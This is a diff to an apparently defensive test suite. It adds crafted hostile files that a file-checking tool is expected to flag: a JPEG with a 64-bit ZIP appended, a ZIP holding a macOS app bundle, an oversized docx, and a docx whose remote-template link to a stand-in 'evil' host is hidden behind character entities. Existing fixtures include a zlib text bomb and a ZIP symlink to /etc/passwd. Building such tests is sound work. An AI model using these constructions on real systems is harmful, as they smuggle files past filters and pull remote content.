@@ -122,6 +122,12 @@ def make_many_scans() -> bytes:
     return plain[:-2] + plain[last:-2] * 1000 + plain[-2:]
 
 
+def make_long_zip_behind() -> bytes:
+    """The end record says nothing there, and the one before it everything."""
+    archive = assemble(Part(b"a.txt"), before_end=b"PK\x06\x07" + bytes(16))
+    return jpeg() + archive[:-14] + b"\xff" * 12 + b"\0\0"
+
+
 def make_text_bomb() -> bytes:
     packed = zlib.compress(bytes(65 * 1024 * 1024))
     return png(extra=png_chunk(b"zTXt", b"c\0\0" + packed))
@@ -166,6 +172,7 @@ PICTURES = [
         HIDDEN_PAGE,
     ),
     hostile_picture("a JPEG with a ZIP behind", "a.jpg", lambda: jpeg() + TEXTS, HIDDEN_FILE),
+    hostile_picture("a JPEG with a ZIP of 64 bits behind", "a.jpg", make_long_zip_behind, HIDDEN_FILE),
     hostile_picture("a JPEG with a JAR behind", "a.jpg", lambda: jpeg() + JAR, HIDDEN_FILE),
     hostile_picture("a JPEG with a ZIP in its comment", "a.jpg", lambda: jpeg(jpeg_segment(0xFE, TEXTS)), HIDDEN_FILE),
     hostile_picture(
@@ -292,7 +299,7 @@ ARCHIVES = [
         "a ZIP with a second, running name",
         "a.zip",
         lambda: assemble(Part(b"a.txt", extra=unicode_path("a.exe"))),
-        RUNS,
+        ODD,
     ),
     Hostile(
         "a ZIP with a symbolic link", "a.zip", lambda: assemble(Part(b"a.txt", b"/etc/passwd", mode=0o120777)), PLACE
@@ -322,6 +329,7 @@ ARCHIVES = [
     Hostile("a JAR as ZIP", "a.zip", lambda: JAR, RUNS),
     Hostile("an Android program as ZIP", "a.zip", lambda: pack({"AndroidManifest.xml": b"\x03\0", "x.txt": ""}), RUNS),
     Hostile("a folder with bytes of its own", "a.zip", lambda: assemble(Part(b"a/", b"hidden")), ODD),
+    Hostile("a ZIP with a program in a folder that macOS runs", "a.zip", lambda: pack({"Open.app/run": "#!x"}), RUNS),
     Hostile("a document as ZIP", "a.zip", docx, "Give its name the ending"),
 ]
 
@@ -348,6 +356,23 @@ DOCUMENTS = [
             }
         ),
         OUTSIDE,
+    ),
+    Hostile(
+        "a document with a spelt-out template from the web",
+        "a.docx",
+        lambda: docx(
+            {
+                "word/_rels/settings.xml.rels": RELATIONSHIP
+                % b'Type="http://x/attachedT&#101;mplate" TargetMode="External" Foo="&lt;" Target="&#104;ttp://evil/"'
+            }
+        ),
+        OUTSIDE,
+    ),
+    Hostile(
+        "a document with more relations than any needs",
+        "a.docx",
+        lambda: docx({f"word/_rels/{n}.rels": noise((1500, 1000)).tobytes().replace(b"\0", b" ") for n in range(2)}),
+        "much too large",
     ),
     Hostile(
         "a document with an object from a share",
